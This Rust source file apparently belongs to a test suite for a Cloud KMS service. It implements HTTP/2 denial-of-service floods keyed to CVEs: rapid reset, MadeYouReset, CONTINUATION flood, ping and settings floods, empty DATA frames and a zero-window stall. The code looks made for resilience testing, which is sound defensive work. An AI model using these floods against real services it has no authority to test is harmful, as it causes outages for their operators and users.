//! Those that break the rules of HTTP/2, or stretch them.

use std::io;

use ekm_tests::base64;
use ekm_tests::frames::*;
use tokio::io::{AsyncRead, AsyncReadExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::client::{Client, send, until_closed};
use crate::scenario::Protocol;

/// As many as the service lets in at a time.
const STREAMS: u32 = 64;

/// What may be sent on a connection before the service says that it may be more.
const FIRST_WINDOW: usize = 65_535;

/// The longest frame that every server takes.
const FRAME_BYTES: usize = 16 * 1024;

/// What Cloud KMS takes at most.
const PLAINTEXT_BYTES: usize = 64 * 1024;

async fn open(client: &Client, settings: &[u8]) -> io::Result<TlsStream<TcpStream>> {
    let mut stream = client.tls(Protocol::Http2).await?;
    send(&mut stream, &[PREFACE, settings].concat()).await?;
    Ok(stream)
}

/// With the settings that every client may have.
async fn open_plainly(client: &Client) -> io::Result<TlsStream<TcpStream>> {
    open(client, &frame(SETTINGS, 0, 0, &[])).await
}

/// The head of a good wrap.
fn head(client: &Client) -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", &client.authority),
        (":path", &client.path),
        ("authorization", &client.bearer),
        ("content-type", "application/json"),
    ])
}

/// The stream of the n-th request.
fn stream(number: u64) -> u32 {
    (2 * number + 1) as u32 & 0x7fff_ffff
}

/// Requests that are taken back at once (CVE-2023-44487).
pub async fn rapid_reset(client: &Client) -> io::Result<()> {
    let head = head(client);
    let taken_back = |number| {
        let open = frame(HEADERS, END_HEADERS, stream(number), &head);
        [open, frame(RST_STREAM, 0, stream(number), &[0, 0, 0, 8])].concat()
    };
    client.flood_and_read(open_plainly(client).await?, taken_back).await
}

/// Requests that the server has to take back (CVE-2025-8671).
pub async fn made_you_reset(client: &Client) -> io::Result<()> {
    let head = head(client);
    let broken = |number| {
        let open = frame(HEADERS, END_HEADERS, stream(number), &head);
        [open, frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
    };
    client.flood_and_read(open_plainly(client).await?, broken).await
}

/// A head that goes on (CVE-2024-27316).
pub async fn continuation(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    send(&mut stream, &frame(HEADERS, 0, 1, &head(client))).await?;
    client.flood_and_read(stream, |_| frame(CONTINUATION, 0, 1, &literal("a", "b"))).await
}

/// Answers pile up (CVE-2019-9512).
pub async fn ping(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    client.flood(&mut stream, |number| frame(PING, 0, 0, &number.to_be_bytes())).await
}

/// Answers pile up (CVE-2019-9515).
pub async fn settings(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    client.flood(&mut stream, |_| frame(SETTINGS, 0, 0, &[])).await
}

/// A body without a byte and without an end (CVE-2019-9518).
pub async fn empty_data(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    send(&mut stream, &frame(HEADERS, END_HEADERS, 1, &head(client))).await?;
    client.flood_and_read(stream, |_| frame(DATA, 0, 1, &[])).await
}

/// Good requests whose answers may not be sent (CVE-2019-9517): half of them small, then as many large ones as the service takes.
pub async fn zero_window(client: &Client) -> io::Result<()> {
    let stream = open(client, &setting(INITIAL_WINDOW_SIZE, 0)).await?;
    let (mut from, mut to) = tokio::io::split(stream);
    let head = head(client);
    let body = |bytes| format!("{{\"plaintext\":\"{}\"}}", base64(vec![b'p'; bytes])).into_bytes();
    let (small, large, mut window) = (body(32), body(PLAINTEXT_BYTES), FIRST_WINDOW);
    for number in 0..STREAMS {
        let (id, body) = (2 * number + 1, if number < STREAMS / 2 { &small } else { &large });
        send(&mut to, &frame(HEADERS, END_HEADERS, id, &head)).await?;
        for piece in body.chunks(FRAME_BYTES) {
            while window < piece.len() {
                window += larger_window(&mut from).await?;
            }
            window -= piece.len();
            send(&mut to, &frame(DATA, 0, id, piece)).await?;
        }
        send(&mut to, &frame(DATA, END_STREAM, id, &[])).await?;
    }
    until_closed(&mut from).await
}

/// Waits until more may be sent on the connection, and says how much.
async fn larger_window<R: AsyncRead + Unpin>(from: &mut R) -> io::Result<usize> {
    loop {
        let length_and_kind = from.read_u32().await?;
        let (_flags, stream) = (from.read_u8().await?, from.read_u32().await?);
        let mut payload = vec![0; (length_and_kind >> 8) as usize];
        from.read_exact(&mut payload).await?;
        if length_and_kind as u8 == WINDOW_UPDATE && stream == 0 && payload.len() == 4 {
            return Ok(payload.as_slice().read_u32().await? as usize);
        }
    }
}
